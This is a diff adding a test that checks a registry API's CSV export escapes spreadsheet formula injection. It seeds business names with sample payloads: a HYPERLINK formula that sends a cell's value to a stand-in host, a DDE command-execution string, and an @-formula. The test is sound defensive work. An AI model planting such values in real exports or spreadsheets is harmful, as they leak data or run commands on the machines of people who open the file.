@@ -307,4 +307,16 @@ describe('registry', () => {
     expect(audit.length).toBe(2);
     expect(audit[0]!.action).toBe('export_full_nik');
   });
+
+  it('exports a name that would run as a spreadsheet formula as text', async () => {
+    const names = ['=HYPERLINK("http://x.example/?leak="&A2,"klik")', "+cmd|' /C calc'!A0", '@SUM(1+1)'];
+    for (const name of names) await makeBusiness(t, admin, { name });
+    const res = await call('GET', '/api/v1/businesses/export?format=csv', admin);
+    expect(res.statusCode).toBe(200);
+    expect(res.body).toContain('"\'=HYPERLINK(""http://x.example/?leak=""&A2,""klik"")"');
+    expect(res.body).toContain(",'+cmd|' /C calc'!A0,");
+    expect(res.body).toContain(",'@SUM(1+1),");
+    // No field of any line starts a formula.
+    expect(res.body).not.toMatch(/(^|,)"?[=+@]/m);
+  });
 });
